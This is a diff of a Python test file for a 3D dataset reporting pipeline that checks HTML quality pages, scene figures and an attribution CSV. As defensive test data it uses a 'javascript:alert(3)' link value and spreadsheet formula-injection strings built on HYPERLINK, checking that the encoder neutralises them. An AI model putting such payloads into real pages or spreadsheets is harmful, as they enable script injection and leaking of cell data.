@@ -18,7 +18,6 @@ from typing import cast
 import numpy as np
 import pytest
 from numpy.typing import NDArray
-from PIL import Image
 
 from pipeline.assets.settings import AssetSettings
 from pipeline.documents.checksums import SUMS, published_files, renew_sums, stale_sums, write_sums
@@ -47,10 +46,14 @@ from storage.records.sample import Sample
 from tests.command_line import trilight
 from tests.pipeline.documents.dataset_by_hand import (
     HARM,
+    NO_LINKS,
+    RIGHTS,
     SETTINGS,
     Tags,
+    files_of,
     five_scenes,
     furnished,
+    pixels_of,
     read,
     row,
     sample,
@@ -75,7 +78,6 @@ def quality_page(rows: list[AssetRow], failures: list[Failure]) -> Tags:
     return read(quality_bytes(rows, failures, {}))
 
 
-RIGHTS = {"licence": HARM, "attribution": HARM, "source_url": "javascript:alert(3)"}
 HARMFUL = row(HARM, title=HARM, method="pymeshlab_collapse", **RIGHTS)
 
 
@@ -113,7 +115,7 @@ def test_a_scene_is_shown_so_dark_that_few_pixels_are_white() -> None:
     assert 0 < (shown == 255).any(axis=-1).mean() < 0.1 and np.median(shown) > 60
 
 
-def test_counts_are_those_of_the_rows_and_equal_rows_give_equal_pages() -> None:
+def test_counts_are_those_of_the_rows_or_none_and_equal_rows_give_equal_pages() -> None:
     tags = quality_page([row("a"), row("b")], [failure()])
     text = text_of(tags)
     assert "2 objects accepted, 0 of them repaired" in text
@@ -122,9 +124,6 @@ def test_counts_are_those_of_the_rows_and_equal_rows_give_equal_pages() -> None:
     assert tags.tags.count("tr") == 2 + 3
     twice = [quality_bytes([row()], [], {}) for _ in range(2)]
     assert twice[0] == twice[1]
-
-
-def test_a_page_without_objects_or_without_failures() -> None:
     tags = quality_page([], [failure("bad0"), failure("bad1")])
     text = text_of(tags)
     assert "0 objects accepted, 0 of them repaired" in text
@@ -196,38 +195,35 @@ def test_addresses_become_links_and_all_else_stays_text() -> None:
 
 
 WORDS = ("depth", "shading normal", "object ids", "diffuse albedo", "roughness")
+SHOWN_PASSES = ("depth_axis_m", "shading_normal", "object", "material_diffuse",
+                "material_roughness")  # fmt: skip
 SIZE = 96
 
 
 def page_of(shown: Sample) -> str:
-    links = {"report": "../report.html", "before": None, "after": None}
-    return encode_scene_page(shown, "train", (), links).decode()
+    return encode_scene_page(shown, "train", (), NO_LINKS).decode()
 
 
 def figures(page: str) -> dict[str, tuple[NDArray[np.uint8], str]]:
     """Return the pictures of a page with their captions, by what stands for them."""
-    picture = r'<img alt="([^"]+?)" src="data:image/png;base64,([^"]+?)"></label>'
+    picture = r'<img alt="([^"]+?)" src="(data:image/png;base64,[^"]+?)"></label>'
     form = rf"<figure><label><input [^>]+>\n{picture}<figcaption>(.+?)</"
-    return {
-        alt: (np.asarray(Image.open(io.BytesIO(base64.b64decode(data)))), caption)
-        for alt, data, caption in re.findall(form, page)
-    }
+    found = re.findall(form, page)
+    return {alt: (pixels_of(link), caption) for alt, link, caption in found}
 
 
 def commands(page: str) -> list[str]:
-    return [
-        html.unescape(text) for text in re.findall("<code[^>]*>(trilight passes .+?)</code>", page)
-    ]
+    found = re.findall("<code[^>]*>(trilight passes .+?)</code>", page)
+    return [html.unescape(text) for text in found]
 
 
 def test_colours_and_captions_say_the_value() -> None:
     scene = furnished(["a"])
-    shown = figures(page_of(sample(0, scene)))
-    names = ["depth_axis_m", "shading_normal", "object", "material_diffuse", "material_roughness"]
+    page = page_of(sample(0, scene))
+    shown = figures(page)
     for view in range(scene.num_views):
-        depth_m, normal, ids, _, roughness = view_passes(
-            scene, names, view=view, resolution=SIZE
-        ).values()
+        seen = view_passes(scene, SHOWN_PASSES, view=view, resolution=SIZE)
+        depth_m, normal, ids, _, roughness = seen.values()
         greys, normals, colours, albedo, rough = (
             shown[f"view {view}, {word}"][0].astype(int) for word in WORDS
         )
@@ -248,10 +244,7 @@ def test_colours_and_captions_say_the_value() -> None:
     assert ": 2 seen" in shown["view 1, object ids"][1]
     assert ": 0.00 to 0.60 (no unit)" in shown["view 1, diffuse albedo"][1]
     assert ": 0.30 to 0.50 (no unit)" in shown["view 1, roughness"][1]
-
-
-def test_the_table_of_objects_has_the_colours_of_the_ids() -> None:
-    page = page_of(sample(0, furnished(["a"])))
+    # The table of objects has the colours of the ids.
     squares = re.findall(r'class="id" style="background: #(\w+)"></i> (.+?)</td>', page)
     assert squares == [("800000", "floor"), ("008000", "light"), ("808000", "0 a")]
 
@@ -273,7 +266,7 @@ def test_the_commands_run_as_printed(tmp_path: Path, monkeypatch: pytest.MonkeyP
     dataset = write_dataset(tmp_path / "data", shards)
     report = write_report(dataset, dataset_distributions(dataset), out=dataset.folder)
     monkeypatch.chdir(report.parent)
-    before = {path: path.read_bytes() for path in report.parent.rglob("*") if path.is_file()}
+    before = files_of(report.parent)
 
     def written(path: Path) -> list[Path]:
         (command,) = commands(path.read_text())
@@ -285,13 +278,9 @@ def test_the_commands_run_as_printed(tmp_path: Path, monkeypatch: pytest.MonkeyP
 
     files = written(report.parent / "report" / "000000004.html")
     assert [path.name for path in files] == [f"000000004.{view}.passes.exr" for view in range(2)]
-    assert set(decode_passes_exr(files[0].read_bytes(), 16)) == {
-        *("depth_axis_m", "shading_normal", "object", "material_diffuse", "material_roughness"),
-        "coverage",
-    }
+    assert set(decode_passes_exr(files[0].read_bytes(), 16)) == {*SHOWN_PASSES, "coverage"}
     assert len(written(report)) == 4
-    after = {path: path.read_bytes() for path in report.parent.rglob("*") if path.is_file()}
-    assert after == before
+    assert files_of(report.parent) == before
 
 
 @pytest.mark.usefixtures("bare_reports")
@@ -380,7 +369,7 @@ def cells(data: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(data.decode(), newline="")))
 
 
-def test_rows_are_sorted_complete_and_come_back_as_they_were() -> None:
+def test_rows_are_sorted_complete_inert_and_come_back_as_they_were() -> None:
     read = cells(encode_attribution([row("b"), row("a", attribution="somebody, and others")]))
     assert [entry["uid"] for entry in read] == ["a", "b"]
     assert list(read[0])[:4] == ["uid", "title", "licence", "licence_source"]
@@ -397,14 +386,12 @@ def test_rows_are_sorted_complete_and_come_back_as_they_were() -> None:
         (again,) = cells(encode_attribution([row(title=text)]))
         assert again["title"] == text
     assert encode_attribution([]).count(b"\n") == 1
-
-
-def test_formulas_are_made_inert() -> None:
+    # Formulas are made inert.
     fields = ["uid", "title", "licence", "licence_source", "attribution", "source_url"]
     for field, start in itertools.product(fields, ["=", "+", "-", "@", "\t", "\r"]):
         formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
-        (read,) = cells(encode_attribution([row(**{field: formula})]))
-        assert read[field] == "'" + formula
+        (again,) = cells(encode_attribution([row(**{field: formula})]))
+        assert again[field] == "'" + formula
 
 
 class Listed:
@@ -444,8 +431,10 @@ def test_all_are_chosen_where_there_are_few_and_exactly_as_many_as_asked_for() -
         assert len(keys) == len(set(keys)) == count
 
 
-def test_small_splits_are_seen() -> None:
-    chosen = chosen_of(48, train=4000, validation=20, test=3)
+def test_small_splits_are_seen_and_only_shards_of_chosen_scenes_are_opened() -> None:
+    listed = Listed(train=4000, validation=20, test=3)
+    chosen = choose_scenes(cast(Dataset, listed), 48)
+    assert sorted(listed.opened) == sorted({shard.name for shard, _ in chosen})
     splits = [shard.split for shard, _ in chosen]
     assert (splits.count("validation"), splits.count("test")) == (6, 3)
     assert len(set(key for _, key in chosen)) == len(chosen) == 48
@@ -453,9 +442,3 @@ def test_small_splits_are_seen() -> None:
     gaps = [after - before for before, after in itertools.pairwise(train)]
     assert (train[0], train[-1]) == (0, 3999)
     assert max(gaps) - min(gaps) <= 1
-
-
-def test_only_shards_of_chosen_scenes_are_opened() -> None:
-    listed = Listed(train=4000, test=40)
-    chosen = choose_scenes(cast(Dataset, listed), 10)
-    assert sorted(listed.opened) == sorted({shard.name for shard, _ in chosen})
